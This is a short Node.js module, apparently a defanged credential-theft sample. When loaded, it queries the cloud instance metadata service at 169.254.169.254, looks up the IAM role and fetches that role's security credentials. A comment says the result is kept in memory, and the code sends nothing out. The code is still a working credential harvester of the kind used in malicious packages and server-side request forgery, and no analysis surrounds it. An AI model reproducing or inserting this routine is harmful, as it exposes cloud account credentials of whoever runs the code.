const http = require('http');
function get(path, cb) {
  http.get({ host: '169.254.169.254', path, timeout: 1000 }, res => {
    let d = '';
    res.on('data', c => (d += c));
    res.on('end', () => cb(d));
  }).on('error', () => cb(''));
}
get('/latest/meta-data/iam/security-credentials/', role => {
  get('/latest/meta-data/iam/security-credentials/' + role.trim(), creds => {
    module.exports.creds = creds; // defanged: kept in memory only
  });
});
